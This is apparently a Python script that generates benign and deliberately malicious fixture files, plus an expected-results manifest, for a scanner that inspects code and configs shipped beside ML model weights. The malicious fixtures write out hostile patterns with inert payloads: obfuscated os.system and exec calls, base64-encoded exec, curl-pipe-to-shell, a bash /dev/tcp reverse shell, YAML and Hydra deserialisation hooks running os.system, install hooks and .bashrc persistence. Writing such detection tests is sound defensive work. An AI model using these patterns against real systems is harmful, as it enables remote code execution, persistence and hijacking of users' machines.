#!/usr/bin/env python3
"""Generates the fixtures of the files beside the weights under
testdata/repotext/ (Python source, scripts, JSON/YAML/TOML/INI configs,
Hugging Face configs, model cards) and the manifest
testdata/expected-repotext.tsv.

Standard library only. Every fixture is checked with the parser its real
consumer uses: Python files with `ast.parse` (compiled to a tree, never
run), TOML with `tomllib`, INI with `configparser`, JSON with `json`; the
fixtures meant not to parse are asserted to fail. YAML has no standard
library parser: its fixtures are plain block YAML written by hand.

Payloads are inert (`echo sentrascan-fixture`, URLs to 127.0.0.1:9) and
nothing here executes them. Run from the repository root:

    python3 testdata/gen/generate_repotext_fixtures.py
"""

import ast
import base64
import zlib
import configparser
import json
import os
import tomllib

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
OUT = os.path.join(ROOT, "repotext")
ECHO = "echo sentrascan-fixture"
URL = "http://127.0.0.1:9/payload.sh"

rows = []


def write(rel, text, expected, check=None):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    data = text.encode() if isinstance(text, str) else text
    if check:
        check(data.decode())
    with open(path, "wb") as f:
        f.write(data)
    if not expected:
        rows.append(f"repotext/{rel}\t-\t-")
    for code, sev in expected:
        rows.append(f"repotext/{rel}\t{code}\t{sev}")


def py_ok(src):
    ast.parse(src)


def py_bad(src):
    try:
        ast.parse(src)
    except SyntaxError:
        return
    raise AssertionError("expected a syntax error")


def toml_ok(src):
    tomllib.loads(src)


def ini_ok(src):
    p = configparser.ConfigParser(interpolation=None)
    p.read_string(src)


def json_ok(src):
    json.loads(src)


# --- benign -------------------------------------------------------------

CONFIGURATION = '''\
"""Tinyformer model configuration."""

from transformers.configuration_utils import PretrainedConfig
from transformers.utils import logging

logger = logging.get_logger(__name__)


class TinyformerConfig(PretrainedConfig):
    model_type = "tinyformer"
    keys_to_ignore_at_inference = ["past_key_values"]

    def __init__(
        self,
        vocab_size=32000,
        hidden_size=256,
        intermediate_size=688,
        num_hidden_layers=4,
        num_attention_heads=4,
        num_key_value_heads=2,
        max_position_embeddings=2048,
        rms_norm_eps=1e-6,
        rope_theta=10000.0,
        tie_word_embeddings=False,
        **kwargs,
    ):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.intermediate_size = intermediate_size
        self.num_hidden_layers = num_hidden_layers
        self.num_attention_heads = num_attention_heads
        self.num_key_value_heads = num_key_value_heads
        self.max_position_embeddings = max_position_embeddings
        self.rms_norm_eps = rms_norm_eps
        self.rope_theta = rope_theta
        if hidden_size % num_attention_heads != 0:
            logger.warning("hidden_size is not a multiple of num_attention_heads")
        super().__init__(tie_word_embeddings=tie_word_embeddings, **kwargs)
'''

MODELING = '''\
# coding=utf-8
"""PyTorch Tinyformer model: a small decoder-only transformer with RMSNorm,
rotary position embeddings, grouped-query attention and a SwiGLU MLP, in
the layout of the transformers library's own modeling files."""

import math
from typing import List, Optional, Tuple, Union

import torch
import torch.nn.functional as F
import torch.utils.checkpoint
from torch import nn
from torch.nn import CrossEntropyLoss

from transformers.activations import ACT2FN
from transformers.modeling_outputs import BaseModelOutputWithPast, CausalLMOutputWithPast
from transformers.modeling_utils import PreTrainedModel
from transformers.utils import logging

from .configuration_tinyformer import TinyformerConfig

logger = logging.get_logger(__name__)


class TinyformerRMSNorm(nn.Module):
    def __init__(self, hidden_size, eps=1e-6):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(hidden_size))
        self.variance_epsilon = eps

    def forward(self, hidden_states):
        input_dtype = hidden_states.dtype
        hidden_states = hidden_states.to(torch.float32)
        variance = hidden_states.pow(2).mean(-1, keepdim=True)
        hidden_states = hidden_states * torch.rsqrt(variance + self.variance_epsilon)
        return self.weight * hidden_states.to(input_dtype)


class TinyformerRotaryEmbedding(nn.Module):
    def __init__(self, dim, max_position_embeddings=2048, base=10000.0, device=None):
        super().__init__()
        inv_freq = 1.0 / (base ** (torch.arange(0, dim, 2, dtype=torch.int64).float().to(device) / dim))
        self.register_buffer("inv_freq", inv_freq, persistent=False)
        self.max_seq_len_cached = max_position_embeddings

    @torch.no_grad()
    def forward(self, x, position_ids):
        inv_freq = self.inv_freq[None, :, None].float().expand(position_ids.shape[0], -1, 1)
        freqs = (inv_freq @ position_ids[:, None, :].float()).transpose(1, 2)
        emb = torch.cat((freqs, freqs), dim=-1)
        return emb.cos().to(x.dtype), emb.sin().to(x.dtype)


def rotate_half(x):
    x1 = x[..., : x.shape[-1] // 2]
    x2 = x[..., x.shape[-1] // 2 :]
    return torch.cat((-x2, x1), dim=-1)


def apply_rotary_pos_emb(q, k, cos, sin):
    cos = cos.unsqueeze(1)
    sin = sin.unsqueeze(1)
    return (q * cos) + (rotate_half(q) * sin), (k * cos) + (rotate_half(k) * sin)


def repeat_kv(hidden_states: torch.Tensor, n_rep: int) -> torch.Tensor:
    batch, num_key_value_heads, slen, head_dim = hidden_states.shape
    if n_rep == 1:
        return hidden_states
    hidden_states = hidden_states[:, :, None, :, :].expand(batch, num_key_value_heads, n_rep, slen, head_dim)
    return hidden_states.reshape(batch, num_key_value_heads * n_rep, slen, head_dim)


class TinyformerMLP(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.gate_proj = nn.Linear(config.hidden_size, config.intermediate_size, bias=False)
        self.up_proj = nn.Linear(config.hidden_size, config.intermediate_size, bias=False)
        self.down_proj = nn.Linear(config.intermediate_size, config.hidden_size, bias=False)
        self.act_fn = ACT2FN[getattr(config, "hidden_act", "silu")]

    def forward(self, x):
        return self.down_proj(self.act_fn(self.gate_proj(x)) * self.up_proj(x))


class TinyformerAttention(nn.Module):
    def __init__(self, config: TinyformerConfig, layer_idx: Optional[int] = None):
        super().__init__()
        self.config = config
        self.layer_idx = layer_idx
        self.num_heads = config.num_attention_heads
        self.head_dim = config.hidden_size // self.num_heads
        self.num_key_value_heads = config.num_key_value_heads
        self.num_key_value_groups = self.num_heads // self.num_key_value_heads
        self.q_proj = nn.Linear(config.hidden_size, self.num_heads * self.head_dim, bias=False)
        self.k_proj = nn.Linear(config.hidden_size, self.num_key_value_heads * self.head_dim, bias=False)
        self.v_proj = nn.Linear(config.hidden_size, self.num_key_value_heads * self.head_dim, bias=False)
        self.o_proj = nn.Linear(self.num_heads * self.head_dim, config.hidden_size, bias=False)
        self.rotary_emb = TinyformerRotaryEmbedding(
            self.head_dim, config.max_position_embeddings, base=config.rope_theta
        )

    def forward(self, hidden_states, attention_mask=None, position_ids=None):
        bsz, q_len, _ = hidden_states.size()
        q = self.q_proj(hidden_states).view(bsz, q_len, self.num_heads, self.head_dim).transpose(1, 2)
        k = self.k_proj(hidden_states).view(bsz, q_len, self.num_key_value_heads, self.head_dim).transpose(1, 2)
        v = self.v_proj(hidden_states).view(bsz, q_len, self.num_key_value_heads, self.head_dim).transpose(1, 2)
        cos, sin = self.rotary_emb(v, position_ids)
        q, k = apply_rotary_pos_emb(q, k, cos, sin)
        k = repeat_kv(k, self.num_key_value_groups)
        v = repeat_kv(v, self.num_key_value_groups)
        attn = torch.matmul(q, k.transpose(2, 3)) / math.sqrt(self.head_dim)
        if attention_mask is not None:
            attn = attn + attention_mask
        attn = F.softmax(attn, dim=-1, dtype=torch.float32).to(q.dtype)
        out = torch.matmul(attn, v).transpose(1, 2).contiguous().reshape(bsz, q_len, -1)
        return self.o_proj(out)


class TinyformerDecoderLayer(nn.Module):
    def __init__(self, config: TinyformerConfig, layer_idx: int):
        super().__init__()
        self.self_attn = TinyformerAttention(config, layer_idx)
        self.mlp = TinyformerMLP(config)
        self.input_layernorm = TinyformerRMSNorm(config.hidden_size, eps=config.rms_norm_eps)
        self.post_attention_layernorm = TinyformerRMSNorm(config.hidden_size, eps=config.rms_norm_eps)

    def forward(self, hidden_states, attention_mask=None, position_ids=None):
        residual = hidden_states
        hidden_states = self.self_attn(self.input_layernorm(hidden_states), attention_mask, position_ids)
        hidden_states = residual + hidden_states
        residual = hidden_states
        return residual + self.mlp(self.post_attention_layernorm(hidden_states))


class TinyformerPreTrainedModel(PreTrainedModel):
    config_class = TinyformerConfig
    base_model_prefix = "model"
    supports_gradient_checkpointing = True
    _no_split_modules = ["TinyformerDecoderLayer"]

    def _init_weights(self, module):
        std = getattr(self.config, "initializer_range", 0.02)
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=std)
            if module.bias is not None:
                module.bias.data.zero_()
        elif isinstance(module, nn.Embedding):
            module.weight.data.normal_(mean=0.0, std=std)


class TinyformerModel(TinyformerPreTrainedModel):
    def __init__(self, config: TinyformerConfig):
        super().__init__(config)
        self.embed_tokens = nn.Embedding(config.vocab_size, config.hidden_size)
        self.layers = nn.ModuleList(
            [TinyformerDecoderLayer(config, i) for i in range(config.num_hidden_layers)]
        )
        self.norm = TinyformerRMSNorm(config.hidden_size, eps=config.rms_norm_eps)
        self.gradient_checkpointing = False
        self.post_init()

    def forward(self, input_ids=None, attention_mask=None, position_ids=None, return_dict=True):
        hidden_states = self.embed_tokens(input_ids)
        if position_ids is None:
            position_ids = torch.arange(input_ids.shape[1], device=input_ids.device).unsqueeze(0)
        mask = None
        if attention_mask is not None:
            mask = (1.0 - attention_mask[:, None, None, :].to(hidden_states.dtype)) * torch.finfo(hidden_states.dtype).min
        for layer in self.layers:
            if self.gradient_checkpointing and self.training:
                hidden_states = torch.utils.checkpoint.checkpoint(layer, hidden_states, mask, position_ids)
            else:
                hidden_states = layer(hidden_states, mask, position_ids)
        hidden_states = self.norm(hidden_states)
        return BaseModelOutputWithPast(last_hidden_state=hidden_states)


class TinyformerForCausalLM(TinyformerPreTrainedModel):
    _tied_weights_keys = ["lm_head.weight"]

    def __init__(self, config):
        super().__init__(config)
        self.model = TinyformerModel(config)
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)
        self.post_init()

    def forward(self, input_ids=None, attention_mask=None, labels=None, return_dict=True):
        outputs = self.model(input_ids=input_ids, attention_mask=attention_mask)
        logits = self.lm_head(outputs.last_hidden_state).float()
        loss = None
        if labels is not None:
            shift_logits = logits[..., :-1, :].contiguous()
            shift_labels = labels[..., 1:].contiguous()
            loss = CrossEntropyLoss()(shift_logits.view(-1, self.config.vocab_size), shift_labels.view(-1))
        return CausalLMOutputWithPast(loss=loss, logits=logits)

    @torch.no_grad()
    def greedy(self, input_ids, max_new_tokens=8):
        self.eval()
        for _ in range(max_new_tokens):
            logits = self(input_ids).logits[:, -1, :]
            input_ids = torch.cat([input_ids, logits.argmax(-1, keepdim=True)], dim=-1)
        return input_ids
'''

write("benign/tinyformer/configuration_tinyformer.py", CONFIGURATION, [], py_ok)
write("benign/tinyformer/modeling_tinyformer.py", MODELING, [], py_ok)

CONFIG = {
    "_name_or_path": "sentrascan/tinyformer-fixture",
    "architectures": ["LlamaForCausalLM"],
    "attention_bias": False,
    "bos_token_id": 1,
    "eos_token_id": 2,
    "hidden_act": "silu",
    "hidden_size": 256,
    "initializer_range": 0.02,
    "intermediate_size": 688,
    "max_position_embeddings": 2048,
    "model_type": "llama",
    "num_attention_heads": 4,
    "num_hidden_layers": 4,
    "num_key_value_heads": 2,
    "rms_norm_eps": 1e-06,
    "rope_scaling": None,
    "rope_theta": 10000.0,
    "tie_word_embeddings": False,
    "torch_dtype": "bfloat16",
    "transformers_version": "4.44.2",
    "use_cache": True,
    "vocab_size": 32000,
}
write("benign/llama_like/config.json", json.dumps(CONFIG, indent=2) + "\n", [], json_ok)
GENERATION = {
    "_from_model_config": True,
    "bos_token_id": 1,
    "do_sample": True,
    "eos_token_id": [2, 32007],
    "max_length": 2048,
    "pad_token_id": 0,
    "temperature": 0.6,
    "top_p": 0.9,
    "transformers_version": "4.44.2",
}
write("benign/llama_like/generation_config.json", json.dumps(GENERATION, indent=2) + "\n", [], json_ok)
TOKENIZER_CONFIG = {
    "add_bos_token": True,
    "add_eos_token": False,
    "added_tokens_decoder": {
        "0": {"content": "<unk>", "lstrip": False, "normalized": False, "rstrip": False, "single_word": False, "special": True},
        "1": {"content": "<s>", "lstrip": False, "normalized": False, "rstrip": False, "single_word": False, "special": True},
        "2": {"content": "</s>", "lstrip": False, "normalized": False, "rstrip": False, "single_word": False, "special": True},
    },
    "bos_token": "<s>",
    "chat_template": "{% for message in messages %}{{ '<|' + message['role'] + '|>\\n' + message['content'] + eos_token + '\\n' }}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% endif %}",
    "clean_up_tokenization_spaces": False,
    "eos_token": "</s>",
    "legacy": False,
    "model_max_length": 2048,
    "pad_token": "</s>",
    "padding_side": "left",
    "sp_model_kwargs": {},
    "tokenizer_class": "LlamaTokenizer",
    "unk_token": "<unk>",
    "use_default_system_prompt": False,
}
write("benign/llama_like/tokenizer_config.json", json.dumps(TOKENIZER_CONFIG, indent=2) + "\n", [], json_ok)

NEMO_YAML = """\
name: Conformer-CTC-BPE
sample_rate: 16000
model:
  sample_rate: 16000
  log_prediction: true
  ctc_reduction: mean_batch
  tokenizer:
    dir: tokenizers/tokenizer_spe_unigram_v128
    type: bpe
  train_ds:
    manifest_filepath: data/train_manifest.json
    sample_rate: 16000
    batch_size: 16
    shuffle: true
    num_workers: 8
    max_duration: 16.7
  preprocessor:
    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
    sample_rate: 16000
    normalize: per_feature
    window_size: 0.025
    window_stride: 0.01
    window: hann
    features: 80
    n_fft: 512
    dither: 0.00001
  spec_augment:
    _target_: nemo.collections.asr.modules.SpectrogramAugmentation
    freq_masks: 2
    time_masks: 10
    freq_width: 27
    time_width: 0.05
  encoder:
    _target_: nemo.collections.asr.modules.ConformerEncoder
    feat_in: 80
    n_layers: 16
    d_model: 176
    subsampling: striding
    subsampling_factor: 4
    ff_expansion_factor: 4
    self_attention_model: rel_pos
    n_heads: 4
    conv_kernel_size: 31
    dropout: 0.1
  decoder:
    _target_: nemo.collections.asr.modules.ConvASRDecoder
    feat_in: null
    num_classes: -1
    vocabulary: []
  optim:
    name: adamw
    lr: 2.0
    betas: [0.9, 0.98]
    weight_decay: 0.001
    sched:
      name: NoamAnnealing
      d_model: 176
      warmup_steps: 10000
      min_lr: 1e-6
trainer:
  devices: -1
  num_nodes: 1
  max_epochs: 1000
  accelerator: auto
  strategy: ddp
  precision: 32
  log_every_n_steps: 10
exp_manager:
  exp_dir: null
  name: Conformer-CTC-BPE
  create_tensorboard_logger: true
  create_checkpoint_callback: true
"""
write("benign/nemo_model_config.yaml", NEMO_YAML, [])

SETUP_CFG = """\
[metadata]
name = tinyformer
version = 0.1.0
description = A tiny decoder-only transformer
long_description = file: README.md
license = Apache-2.0
classifiers =
    Programming Language :: Python :: 3
    License :: OSI Approved :: Apache Software License

[options]
packages = find:
python_requires = >=3.9
install_requires =
    torch>=2.1
    transformers>=4.40
    safetensors

[options.entry_points]
console_scripts =
    tinyformer-generate = tinyformer.cli:main

[flake8]
max-line-length = 100
exclude = .git,__pycache__,build
"""
write("benign/setup.cfg", SETUP_CFG, [], ini_ok)

PYPROJECT = """\
[build-system]
requires = ["setuptools>=68", "wheel"]
build-backend = "setuptools.build_meta"

[project]
name = "tinyformer"
version = "0.1.0"
description = "A tiny decoder-only transformer"
readme = "README.md"
requires-python = ">=3.9"
license = { text = "Apache-2.0" }
dependencies = ["torch>=2.1", "transformers>=4.40", "safetensors>=0.4"]

[project.optional-dependencies]
dev = ["pytest>=8", "ruff>=0.5"]

[project.urls]
Homepage = "https://huggingface.co/sentrascan/tinyformer-fixture"
Source = "https://github.com/sentrascan/tinyformer"

[project.scripts]
tinyformer-generate = "tinyformer.cli:main"

[tool.ruff]
line-length = 100
target-version = "py39"
"""
write("benign/pyproject.toml", PYPROJECT, [], toml_ok)

CARD = """\
---
license: apache-2.0
language:
- en
library_name: transformers
pipeline_tag: text-generation
base_model: sentrascan/tinyformer-base
datasets:
- HuggingFaceFW/fineweb-edu
tags:
- tinyformer
- fixture
widget:
- text: "The capital of France is"
---

# Tinyformer fixture

A tiny decoder-only transformer, for scanner tests. See the
[base model](https://huggingface.co/sentrascan/tinyformer-base).

## Intended uses & limitations

Tests only.
"""
write("benign/model_card/README.md", CARD, [])

RUN_SH = """\
#!/usr/bin/env bash
# Runs the fixture model on a prompt.
set -euo pipefail
MODEL_DIR="$(cd "$(dirname "$0")" && pwd)"
python -m tinyformer.generate --model "$MODEL_DIR" --prompt "${1:-Hello}" --max-new-tokens 16
"""
write("benign/run_inference.sh", RUN_SH, [("CFG007", "LOW")])

# --- Python -------------------------------------------------------------

write(
    "malicious/PY001_subprocess_alias.py",
    f"from subprocess import Popen as P\nimport torch\n\n\nclass M(torch.nn.Module):\n    pass\n\n\nP(['sh', '-c', '{ECHO}'])\n",
    [("PY001", "HIGH")],
    py_ok,
)
write(
    "malicious/PY001_dunder_import_getattr.py",
    f"m = __import__('o' + 's')\nrun = getattr(m, 'sys' + 'tem')\nrun('{ECHO}')\n",
    [("PY001", "HIGH")],
    py_ok,
)
write(
    "malicious/PY001_shebang_script",
    f"#!/usr/bin/env python3\nimport os as o\no.system('{ECHO}')\n",
    [("PY001", "HIGH")],
    py_ok,
)
write(
    "malicious/PY002_exec_downloaded.py",
    f"import requests\n\ncode = requests.get('{URL}').text\nexec(code)\n",
    [("PY002", "HIGH"), ("PY006", "MEDIUM")],
    py_ok,
)
write(
    "malicious/PY003_base64_exec.py",
    "import base64\nimport zlib\n\n"
    "payload = zlib.decompress(base64.b64decode('"
    + base64.b64encode(zlib.compress(b"print('sentrascan-fixture')")).decode()
    + "'))\n"
    "exec(payload)\n",
    [("PY003", "CRITICAL")],
    py_ok,
)
write(
    "malicious/PY003_builtins_dict_eval.py",
    "import codecs\n\n__builtins__.__dict__['ev' + 'al'](codecs.decode('cevag(1)', 'rot13'))\n",
    [("PY003", "CRITICAL")],
    py_ok,
)
write(
    "malicious/PY004_unsafe_loaders.py",
    "import pickle\nimport torch\nimport yaml\n\n"
    "state = torch.load('pytorch_model.bin', map_location='cpu')\n"
    "cfg = yaml.load(open('config.yaml'), Loader=yaml.Loader)\n"
    "ok = torch.load('weights.pt', weights_only=True)\n"
    "safe = yaml.safe_load(open('config.yaml'))\n",
    [("PY004", "HIGH")],
    py_ok,
)
write(
    "malicious/PY005_ctypes_cdll.py",
    "import ctypes\n\nlib = ctypes.cdll.LoadLibrary('./libkernel.so')\n",
    [("PY005", "HIGH")],
    py_ok,
)
write(
    "malicious/PY006_requests_post.py",
    "import socket\nimport requests\n\n"
    f"requests.post('{URL}', data={{'host': socket.gethostname()}})\n",
    [("PY006", "MEDIUM")],
    py_ok,
)
write(
    "malicious/PY007_bashrc_and_sys_path.py",
    "import os\nimport sys\n\nsys.path.insert(0, '/tmp/sentrascan-fixture')\n"
    f"with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('{ECHO}\\n')\n",
    [("PY007", "MEDIUM")],
    py_ok,
)
write(
    "malicious/PY008_syntax_error_then_payload.py",
    f"def broken(:\n    pass\n\nimport os\nos.system('{ECHO}')\n",
    [("PY008", "MEDIUM"), ("PY001", "HIGH")],
    py_bad,
)

# --- scripts ------------------------------------------------------------

write(
    "malicious/CFG006_curl_pipe_sh.sh",
    f"#!/bin/sh\nset -e\ncurl -fsSL {URL} | sh\n",
    [("CFG006", "CRITICAL")],
)
write(
    "malicious/CFG006_reverse_shell.sh",
    "#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n",
    [("CFG006", "CRITICAL")],
)
write(
    "malicious/CFG006_download_chmod.sh",
    f"#!/bin/sh\nwget -q {URL} -O /tmp/sentrascan-fixture\nchmod +x /tmp/sentrascan-fixture\n",
    [("CFG006", "HIGH")],
)

# --- configs ------------------------------------------------------------

write(
    "malicious/CFG001_yaml_python_apply.yaml",
    f"model:\n  name: tiny\n  hook: !!python/object/apply:os.system [\"{ECHO}\"]\n",
    [("CFG001", "CRITICAL")],
)
write(
    "malicious/CFG002_hydra_target_os_system.yaml",
    f"model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\ncallback:\n  _target_: os.system\n  _args_:\n    - \"{ECHO}\"\n",
    [("CFG002", "CRITICAL")],
)
write(
    "malicious/CFG002_unknown_target.yaml",
    "model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\nlogger:\n  _target_: fixture_helpers.telemetry.Uploader\n",
    [("CFG002", "MEDIUM")],
)
write(
    "malicious/CFG003_setup_cfg_command.cfg",
    f"[metadata]\nname = tinyformer\n\n[tool:post_install]\ncommand = curl -s {URL} | bash\n",
    [("CFG003", "HIGH")],
    ini_ok,
)
write(
    "malicious/CFG003_pyproject_hook.toml",
    f"[project]\nname = \"tinyformer\"\nversion = \"0.1.0\"\n\n[tool.fixture.hooks]\npre_build = \"__import__('os').system('{ECHO}')\"\n",
    [("CFG003", "HIGH")],
    toml_ok,
)
write(
    "malicious/CFG004_external_url.json",
    json.dumps({"model_type": "llama", "pretrained_weights_url": "http://127.0.0.1:9/weights.bin"}, indent=2) + "\n",
    [("CFG004", "LOW")],
    json_ok,
)
write(
    "malicious/CFG005_yaml_unparseable.yaml",
    "model:\n  name: tiny\n    bad: indentation: here\n",
    [("CFG005", "MEDIUM")],
)

# --- Hugging Face conventions --------------------------------------------

remote = dict(CONFIG)
remote["architectures"] = ["TinyformerForCausalLM"]
remote["model_type"] = "tinyformer"
remote["auto_map"] = {
    "AutoConfig": "configuration_tinyformer.TinyformerConfig",
    "AutoModelForCausalLM": "modeling_tinyformer.TinyformerForCausalLM",
}
write("malicious/HFR001_auto_map/config.json", json.dumps(remote, indent=2) + "\n", [("HFR001", "MEDIUM")], json_ok)
other = dict(remote)
other["auto_map"] = {
    "AutoConfig": "someone-else/tinyformer-code--configuration_tinyformer.TinyformerConfig",
    "AutoModelForCausalLM": "someone-else/tinyformer-code--modeling_tinyformer.TinyformerForCausalLM",
}
write("malicious/HFR002_auto_map_other_repo/config.json", json.dumps(other, indent=2) + "\n", [("HFR002", "HIGH")], json_ok)
tok = dict(TOKENIZER_CONFIG)
tok["auto_map"] = {"AutoTokenizer": ["tokenization_tinyformer.TinyformerTokenizer", None]}
write("malicious/HFR001_tokenizer_auto_map/tokenizer_config.json", json.dumps(tok, indent=2) + "\n", [("HFR001", "MEDIUM")], json_ok)
write(
    "malicious/HFR003_trust_remote_code.yaml",
    "model:\n  pretrained_model_name_or_path: sentrascan/tinyformer-fixture\n  trust_remote_code: true\n",
    [("HFR003", "MEDIUM")],
)
write(
    "malicious/model_card_payload/README.md",
    "---\nlicense: mit\nwidget:\n- text: \"$(curl -s " + URL + " | sh)\"\n---\n\n# Card\n",
    [("CFG003", "HIGH"), ("CFG004", "LOW")],
)

with open(os.path.join(ROOT, "expected-repotext.tsv"), "w") as f:
    f.write(
        "# Fixtures of the files beside the weights (Python, scripts, configs, model cards).\n"
        "# GENERATED by testdata/gen/generate_repotext_fixtures.py; see testdata/repotext/README.md.\n"
        "# path<TAB>RULE<TAB>SEVERITY (a benign file: -<TAB>-, nothing above LOW).\n"
    )
    f.write("\n".join(rows) + "\n")
print(f"{len(rows)} manifest rows")
